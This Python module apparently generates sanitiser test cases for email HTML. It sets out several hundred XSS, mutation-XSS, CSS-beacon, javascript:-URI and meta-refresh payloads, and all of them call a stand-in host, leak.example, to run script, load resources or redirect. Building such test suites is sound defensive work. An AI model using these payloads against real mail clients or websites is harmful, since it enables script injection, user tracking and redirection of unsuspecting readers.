"""HTML that mails use to run, to load and to lead away (R26), by families.

Whatever runs calls `HOST/ran`, whatever loads asks for something at `HOST`, whatever navigates goes there: so one look
at what was asked for tells everything.
"""

from __future__ import annotations

from collections.abc import Iterator

HOST = "https://leak.example"
# No blank in it: it must run where an attribute has no quotation marks, too.
RUN = f"fetch('{HOST}/ran');alert(1);top.location='{HOST}/ran'"
SOURCE = f"{HOST}/load"

EVENTS = (
    "load", "error", "click", "mouseover", "mouseenter", "focus", "focusin", "blur", "input", "change", "toggle",
    "animationstart", "animationend", "transitionend", "pointerenter", "pointerrawupdate", "scroll", "wheel", "beforeprint",
    "hashchange", "pageshow", "popstate", "begin", "end", "repeat", "start", "finish", "bounce", "auxclick", "copy",
    "beforetoggle", "securitypolicyviolation", "contentvisibilityautostatechange", "loadstart", "canplay",
)  # fmt: skip
HOLDERS = (
    '<img src="{bad}" on{event}="{run}">',
    '<div tabindex="1" autofocus on{event}="{run}">x</div>',
    '<svg on{event}="{run}"><rect/></svg>',
)
LINKS = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}", "java&#x73;cript:{run}",
    "&#106;avascript:{run}", "\x01javascript:{run}", " javascript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "feed:javascript:{run}",
    "view-source:{source}", "filesystem:{source}", "blob:{source}", "//leak.example/load", "livescript:{run}",
)  # fmt: skip
LINKING = (
    '<a href="{link}" autofocus>x</a>',
    '<form action="{link}"><input type=submit autofocus></form>',
    '<iframe src="{link}"></iframe>',
)
# What asks for something by itself (after cure53's HTTPLeaks).
LOADING = (
    '<img src="{source}">', '<img srcset="{source} 1x, {source}2 2x">', '<img src=x srcset=",,{source}">',
    '<img lowsrc="{source}">', '<img dynsrc="{source}">', '<image src="{source}">', '<image href="{source}">',
    '<picture><source srcset="{source}"><img></picture>', '<video poster="{source}" src="{source}" autoplay></video>',
    '<audio src="{source}" autoplay></audio>', '<video><source src="{source}"><track src="{source}" default></video>',
    '<input type="image" src="{source}">', '<body background="{source}">', '<table background="{source}"><tr><td background="{source}">x</table>',
    '<iframe src="{source}"></iframe>', '<iframe srcdoc="<img src={source}>"></iframe>', '<frameset><frame src="{source}"></frameset>',
    '<embed src="{source}">', '<object data="{source}"></object>', '<object type="text/html"><param name="src" value="{source}"></object>',
    '<applet code="x" codebase="{source}"></applet>', '<link rel="stylesheet" href="{source}">', '<link rel="preload" as="image" href="{source}">',
    '<link rel="prefetch" href="{source}">', '<link rel="dns-prefetch" href="//leak.example">', '<link rel="preconnect" href="{source}">',
    '<link rel="icon" href="{source}">', '<link rel="manifest" href="{source}">', '<link rel="modulepreload" href="{source}">',
    '<link rel="import" href="{source}">', '<link rel="stylesheet" href="data:text/css,@import url({source})">',
    '<script src="{source}"></script>', '<bgsound src="{source}">', '<menuitem icon="{source}">', '<html manifest="{source}">',
    '<div itemscope itemtype="{source}"></div>', '<blockquote cite="{source}">x</blockquote>', '<head profile="{source}"></head>',
    '<portal src="{source}"></portal>', '<fencedframe src="{source}"></fencedframe>', '<img src="cid:{source}">', '<xml src="{source}"></xml>',
    '<a ping="{source}" href="{source}" autofocus>x</a>', '<area ping="{source}" href="{source}">', '<img usemap="#m" src="{source}"><map name=m><area href="{source}"></map>',
    '<svg><image href="{source}" xlink:href="{source}"/></svg>', '<svg><use href="{source}#x"/></svg>', '<svg><feImage href="{source}"/></svg>',
    '<svg><script href="{source}"/></svg>', '<svg><style>@import "{source}";</style></svg>', '<svg><a href="{source}"><text>x</text></a></svg>',
    '<svg fill="url({source})"><rect fill="url({source}#a)" filter="url({source}#b)" width=9 height=9 /></svg>',
    '<svg><foreignObject><img src="{source}"></foreignObject></svg>', '<math href="{source}"><mi>x</mi></math>',
    '<math><mi xlink:href="{source}" xlink:actuate="onLoad" xlink:show="embed">x</mi></math>',
)  # fmt: skip
STYLES = (
    "background:url({source})", "background-image:url('{source}')", "background-image:URL( {source} )", "background:u\\72l({source})",
    "background:\\75\\72\\6c({source})", "background-image:image-set('{source}' 1x)", "background-image:-webkit-image-set(url({source}) 1x)",
    "background-image:image('{source}')", "background-image:cross-fade(url({source}),url({source}),50%)", "background-image:paint(x),url({source})",
    "list-style:url({source})", "list-style-image:url({source})", "border-image:url({source})", "border-image-source:url({source})",
    "content:url({source})", "cursor:url({source}),auto", "mask:url({source})", "mask-image:url({source})", "-webkit-mask-image:url({source})",
    "-webkit-box-reflect:below 0 url({source})", "filter:url({source}#a)", "clip-path:url({source}#a)", "shape-outside:url({source})",
    "offset-path:url({source}#a)", "behavior:url({source})", "-moz-binding:url({source}#x)", "src:url({source})", "font-family:url({source})",
    "color:expression({run})", "width:expression({run})", "background:/**/url(/**/{source})", "--x:url({source});background:var(--x)",
    "background:url(&quot;{source}&quot;)", "background:url(javascript:{run})", "color:red;}}</style><img src={source}>", "@import '{source}'",
    "position:fixed;top:0;left:0;width:100%;height:100%;background:url({source})", "background-color:red;background:url(//leak.example/load)",
)  # fmt: skip
SHEETS = (
    "@import '{source}';", "@import url({source});", "@import url({source}) screen;", "@import/**/'{source}'", "@\\69mport '{source}'",
    "@font-face{{font-family:x;src:url({source})}}*{{font-family:x}}", "*{{background:url({source})}}", "p::before{{content:url({source})}}",
    "a:visited{{background:url({source})}}", "@media screen{{*{{background:url({source})}}}}", "@supports(color:red){{*{{background:url({source})}}}}",
    "@namespace url({source});", "@document url({source}){{}}", "@property --x{{syntax:'<url>';inherits:true;initial-value:url({source})}}",
    "input[value^=a]{{background:url({source})}}", "@counter-style x{{symbols:url({source})}}", "</style><script>{run}</script>", "<!--@import '{source}';-->",
)  # fmt: skip
GOING = (
    '<meta http-equiv="refresh" content="0;url={source}">', '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
    '<meta http-equiv=refresh content="0,{source}">', '<META HTTP-EQUIV="ReFrEsH" CONTENT="0; URL={source}">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>{run}</script>">', '<meta http-equiv="Set-Cookie" content="a=b">',
    '<meta http-equiv="Link" content="<{source}>; rel=stylesheet">', '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<meta name="referrer" content="unsafe-url"><img src="{source}">', '<base href="{host}/"><a href="load" autofocus>x</a><img src="load">',
    '<base target="_top"><a href="{source}">x</a>', '<form action="{source}" id=f><input name=a value=b autofocus></form><button form=f>x</button>',
    '<form action="{source}"><button formaction="{source}" autofocus>x</button></form>', '<isindex action="{source}" prompt="x">',
    '<form action="{source}" method=post target=_top><input type=submit value=x></form>', '<keygen autofocus onfocus="{run}">',
    '<dialog open><form method=dialog action="{source}"><button autofocus>x</button></form></dialog>', '<noscript><meta http-equiv=refresh content="0;url={source}"></noscript>',
    '<template shadowrootmode=open><meta http-equiv=refresh content="0;url={source}"><img src="{source}"></template>',
    '<div popover id=p></div><button popovertarget=p autofocus onclick="{run}">x</button>',
)  # fmt: skip
RUNNING = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script/x>{run}</script>", "<script\x00>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script>{run}", "<<script>{run}//<</script>", "<script type=module>{run}</script>", '<script type="text/vbscript">x</script>', "<script src=data:,{run}></script>",
    "<script><!--\n{run}\n--></script>", "<svg><script>{run}</script></svg>", "<svg><script>{run}<p>", "<math><script>{run}</script></math>",
    "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s>", "<svg><set onbegin=\"{run}\" attributeName=x>", "<svg><a><animate attributeName=href values=\"javascript:{run}\"/></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>#x\"/></svg>", '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<object data="data:text/html,<script>{run}</script>"></object>', '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{run}\'/>">',
    '<details open ontoggle="{run}">x</details>', '<marquee onstart="{run}">x</marquee>', '<xss contenteditable autofocus onfocus="{run}">x</xss>', '<body onload="{run}">', '<frameset onload="{run}">',
    "<img src=x onerror={run}//", '<img """><script>{run}</script>">', "<img src=`x`onerror={run}>", "<a/onmouseover={run}//href=x>x</a>", '"><script>{run}</script>', "--><script>{run}</script>",
    "<comment><img src=\"</comment><img src=x onerror={run}//\">", "<![CDATA[<script>{run}</script>]]>", "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
    "<!--[if gte IE 4]><script>{run}</script><![endif]-->", "<xml id=x><a><b><script>{run}</script></b></a></xml>", "<style onload=\"{run}\"></style>", "<link rel=stylesheet onload=\"{run}\" href=data:text/css,>",
)  # fmt: skip
# What is harmless until it is written and read once more (mutation).
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">", "<math><mtext><mglyph><style><img src=x onerror={run}></style></mglyph></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<svg><style>&lt;/style&gt;&lt;img src=x onerror={run}&gt;</style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">", "<textarea><p title=\"</textarea><img src=x onerror={run}>\">", "<title><p title=\"</title><img src=x onerror={run}>\">",
    "<xmp><p title=\"</xmp><img src=x onerror={run}>\">", "<noembed><p title=\"</noembed><img src=x onerror={run}>\">", "<noframes><p title=\"</noframes><img src=x onerror={run}>\">",
    "<iframe><p title=\"</iframe><img src=x onerror={run}>\">", "<plaintext><img src=x onerror={run}>", "<listing>&lt;img src=x onerror={run}&gt;</listing>", "<select><style></select><img src=x onerror={run}></style>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror={run}></table>", "<svg><title><![CDATA[</title><img src=x onerror={run}>]]></svg>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={run}></style></annotation-xml></math>",
    "<svg><foreignObject><math><mi><img src=x onerror={run}></mi></math></foreignObject></svg>", "<template><s><template><s><img src=x onerror={run}></s></template></s></template>",
    "<p id=\"&lt;/p&gt;&lt;img src=x onerror={run}&gt;\">", "<img alt=\"`><img src=x onerror={run}>\">", "<a title=\"x&quot; onmouseover=&quot;{run}\">x</a>", "<font face=\"x&quot;><img src=x onerror={run}>\">x</font>",
    "<ruby><rp><style></rp><img src=x onerror={run}></style></ruby>", "<math><mo><style><!-- </style><img src=x onerror={run}> --></mo></math>", "<svg><p><style><!--</style><img src=x onerror={run}>--></style>",
    "<a href=\"https://a.example/&quot;><img src=x onerror={run}>\">x</a>", "<a data-to=\"&quot;><img src=x onerror={run}>\">x</a>", "<span class=mail-picture data-cid=\"&quot; onclick={run}\">[x]</span>",
)  # fmt: skip
FAMILIES: dict[str, tuple[str, ...]] = {
    "loading": LOADING, "going": GOING, "running": RUNNING, "mutating": MUTATING,
    "styles": tuple(f'<p style="{one}">x</p>' for one in STYLES),
    "sheets": tuple(f"<style>{one}</style><p>x</p>" for one in SHEETS),
}  # fmt: skip


def payloads() -> dict[str, str]:
    """Every payload by its family and number."""
    return {f"{family} {number}": html for family, every in _families() for number, html in every}


def _families() -> Iterator[tuple[str, Iterator[tuple[int, str]]]]:
    for family, every in FAMILIES.items():
        yield family, enumerate(_filled(one) for one in every)
    events = [one.replace("{event}", event) for event in EVENTS for one in HOLDERS]
    yield "events", enumerate(_filled(one) for one in events)
    links = [one.replace("{link}", link) for link in LINKS for one in LINKING]
    yield "links", enumerate(_filled(one) for one in links)


def _filled(html: str) -> str:
    html = html.replace("{{", "{").replace("}}", "}")
    for name, value in {"run": RUN, "source": SOURCE, "host": HOST, "bad": f"{HOST}/bad"}.items():
        html = html.replace("{" + name + "}", value)
    return html
